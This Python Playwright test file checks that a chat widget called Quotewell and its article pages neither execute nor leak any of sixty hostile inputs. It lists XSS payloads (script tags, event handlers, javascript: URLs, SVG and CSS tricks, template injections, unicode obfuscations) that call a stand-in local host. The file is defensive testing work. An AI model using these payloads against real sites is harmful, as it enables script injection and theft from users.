"""Articles and questions made to be executed: sixty of each in the widget, its source panel and the article page."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect

from server.app import create_app
from tests import make
from tests.browsing import serving, watch
from tests.faulty_server import Faulty, answer, citation

pytestmark = [pytest.mark.slow, pytest.mark.browser]

AWAY = "http://127.0.0.1:9"  # nobody's: a request to it is seen
RUN = f"window.pwned=1;fetch('{AWAY}')"
OPEN = {"Access-Control-Allow-Origin": "*"}
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src={AWAY}/x.js></sCrIpT>",
    f"<script/x>{RUN}//",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src={AWAY}/pixel.png>",
    f"\"><img src=x onerror={RUN}>",
    f"'><svg onload={RUN}>",
    f"<svg/onload=\"{RUN}\">",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{RUN}'/>#x\"/></svg>",
    f"<math><mtext></form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"{AWAY}/x.swf\">",
    f"<a href=\"javascript:{RUN}\">open</a>",
    f"<a href=\"jav&#x09;ascript:{RUN}\">open</a>",
    f"<details open ontoggle=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<input autofocus onfocus=\"{RUN}\">",
    f"<select autofocus onfocus=\"{RUN}\">",
    f"<video><source onerror=\"{RUN}\"></video>",
    f"<audio src=x onerror=\"{RUN}\">",
    f"<marquee onstart=\"{RUN}\">",
    f"<form action=\"{AWAY}\"><button id=send autofocus>Ask</button></form>",
    f"<base href=\"{AWAY}/\">",
    f"<link rel=stylesheet href=\"{AWAY}/x.css\">",
    f"<meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>*{{background:url({AWAY}/leak)}}</style>",
    f"<div style=\"background:url({AWAY}/leak)\">",
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<x onclick=\"{RUN}\" tabindex=1 id=question>click</x>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"[open](javascript:{RUN})",
    f"![x]({AWAY}/pixel.png)",
    f"![x](x\"onerror=\"{RUN})",
    f"<{AWAY}/auto>",
    f"```html\n<script>{RUN}</script>\n```",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<%= window.pwned=1 %>",
    "<?lit$0123456789$?><!--?lit$0123456789$-->",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "\u2028window.pwned=1\u2029//",
    "<scr\u00adipt>window.pwned=1</scr\u00adipt>",
    "\u202e<tpircs>1=denwp.wodniw",
    "'-window.pwned=1-'",
    "\";window.pwned=1;//",
]  # fmt: skip
LOOK = """async (question) => {
  const root = document.querySelector("quotewell-chat").shadowRoot;
  const drawn = () => new Promise((resolve) => setTimeout(resolve));
  const text = (selector) => root.querySelector(selector).textContent;
  const answered = new Promise((resolve) => Quotewell.on("answer", resolve));
  Quotewell.reset();
  Quotewell.ask(question);
  await answered;
  await drawn();
  const sources = [];
  for (const marker of root.querySelectorAll(".marker")) {
    marker.click();
    await drawn();
    sources.push({ title: text("#source-title"), byline: text("#source-byline"), marked: text("#source mark"),
      link: root.querySelector("#source-link").href, label: marker.ariaLabel });
  }
  const odd = root.querySelectorAll(`script, img, iframe, object, embed, link, meta, base, style, video, audio,
    template, select, input, math, marquee, x, svg:not(.icon, .logo), form:not(#ask), a[href]:not([href^="http:"]),
    [style], [src], [srcdoc], [autofocus]`);
  const names = [...root.querySelectorAll("*")].flatMap((node) => node.getAttributeNames());
  return { sources, said: text(".reply"), odd: [...odd].map((node) => node.outerHTML),
    handlers: names.filter((name) => /^on/.test(name)) }; }"""
ASK_IN_VAIN = """async (questions) => {
  const root = document.querySelector("quotewell-chat").shadowRoot;
  for (const question of questions) {
    const failed = new Promise((resolve) => Quotewell.on("error", resolve));
    Quotewell.ask(question);
    await failed;
  }
  return [...root.querySelectorAll(".asked")].map((node) => node.textContent); }"""
READ_ALL = """async (addresses) => {
  const main = document.getElementById("article");
  const seen = [];
  for (const [number, address] of addresses.entries()) {
    history.replaceState(null, "", address);
    main.querySelector(".status") ?? main.prepend(Object.assign(document.createElement("p"), { className: "status" }));
    await import(`/static/article.js?${number}`);  // the page's own script, as if it were opened anew
    await new Promise((resolve) => setTimeout(resolve));
    seen.push({ title: document.title, text: document.querySelector("#text").textContent,
      byline: document.querySelector("#byline").textContent,
      marked: [...document.querySelectorAll("mark")].map((node) => node.textContent).join(""),
      links: [...document.querySelectorAll("article a")].map((node) => node.protocol),
      odd: document.querySelectorAll("article :not(h1, h2, p, div, b, mark, a)").length });
  }
  return seen; }"""


def article(number: int, payload: str) -> dict[str, str]:
    """Found by a number that no other has; the payload is everywhere where an article can have words."""
    return {
        "_id": f"a{number}"
        + (" ".join(payload.split())[:40].replace("/", "|") if number % 3 == 0 and payload.isprintable() else ""),
        "title": f"Keeper {number} {payload}",
        "author": payload,
        "publisher": payload,
        "url": payload,
        "text": f"The keeper number{number} writes {payload} in the guest book.\n\nThe lamp is lit at dusk.",
    }


def everything() -> dict[str, Any]:
    """One answer of sixty quotes, as a server might give it that was itself deceived: a payload in every place."""
    kinds = ["quote", "statement", "note", "conflict", "comparison", "<script>"]
    cited = [
        citation(n, told, title=told, author=told, document_id=told, passage_id=told, url=told, published=None)
        for n, told in enumerate(PAYLOADS, start=1)
    ]
    read = [{"document_id": p, "passage_id": f"{p}!", "title": p, "text": p, "start": 0, "end": 1} for p in PAYLOADS]
    return answer(
        segments=[{"kind": "quote", "text": p, "citations": [n]} for n, p in enumerate(PAYLOADS, start=1)]
        + [{"kind": kind, "text": p, "citations": []} for kind in kinds for p in PAYLOADS],
        citations=cited,
        evidence=read,
        follow_ups=PAYLOADS,
        standalone=" ".join(PAYLOADS),
        phrasing={"model": PAYLOADS[0], "dropped": 1},
        text="\n".join(PAYLOADS),
    )


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    lines = [json.dumps(article(number, payload)) for number, payload in enumerate(PAYLOADS)]
    corpus = {"articles.jsonl": "\n".join(lines)}
    app = create_app(make.indexed(tmp_path_factory.mktemp("hostile"), corpus, threshold=0.0, origins="local null"))
    with serving(app, lambda app: Faulty(app, {"Everything?": everything()}, [])) as origin:
        yield origin


def test_sixty_articles_and_questions_execute_nothing_and_call_nobody(
    browser: Browser, server: str, tmp_path: Path
) -> None:
    """In a page without any policy, so that only the widget itself stands between a text and its execution."""
    assert len(PAYLOADS) == 60
    host = tmp_path / "host.html"
    host.write_text(f'<!doctype html><title>Host</title><script src="{server}/widget.js" defer></script>', "utf-8")
    page = browser.new_page()
    page.route("**/v1/suggestions", lambda route: route.fulfill(json={"suggestions": PAYLOADS}, headers=OPEN))
    faults = watch(page, server, host.as_uri())
    page.goto(host.as_uri())
    page.locator(".launcher").click()
    seen = page.evaluate(LOOK, "Everything?")
    assert (seen["odd"], seen["handlers"]) == ([], [])
    for payload, source in zip(PAYLOADS, seen["sources"], strict=True):
        assert (source["title"], source["marked"], source["byline"]) == (payload, payload, f"{payload} · undated")
        assert source["link"].startswith(f"{server}/documents/")
        assert payload in source["label"]
        assert payload in seen["said"]
    for number in range(0, 60, 10):  # and as they come out of an index
        seen = page.evaluate(LOOK, f"What does keeper number{number} write?")
        assert (seen["odd"], seen["handlers"]) == ([], [])
        assert PAYLOADS[number] in seen["sources"][0]["marked"]
    page.locator("#source-close").click()
    page.locator(".marker").first.hover()
    expect(page.locator("#preview")).to_be_visible()
    assert faults == []
    page.context.set_offline(True)
    assert faults == []
    assert page.evaluate(ASK_IN_VAIN, PAYLOADS)[1:] == [payload.strip() for payload in PAYLOADS]
    assert page.evaluate("window.pwned") is None
    page.context.close()


def test_their_own_pages_and_the_start_screen_execute_nothing_and_call_nobody(browser: Browser, server: str) -> None:
    page = browser.new_page()
    page.route("**/v1/suggestions", lambda route: route.fulfill(json={"suggestions": PAYLOADS}, headers=OPEN))
    faults = watch(page, server)
    page.goto(server)
    expect(page.locator("#corpus li")).to_have_count(7)
    expect(page.locator(".example")).to_have_text(PAYLOADS)
    names = [quote(article(number, payload)["_id"], safe="") for number, payload in enumerate(PAYLOADS)]
    page.goto(f"{server}/documents/{names[0]}#4-20")
    expect(page.locator("#text mark")).to_have_text("keeper number0 w")
    seen = page.evaluate(READ_ALL, [f"/documents/{name}#4-20" for name in names])
    for number, (payload, shown) in enumerate(zip(PAYLOADS, seen, strict=True)):
        assert shown["title"].startswith(f"Keeper {number}")
        assert payload.split("\n")[0].strip() in shown["text"]
        assert (len(shown["marked"]), shown["odd"], shown["links"]) == (16, 0, [])
    assert page.evaluate("window.pwned") is None
    assert faults == []
    page.context.close()
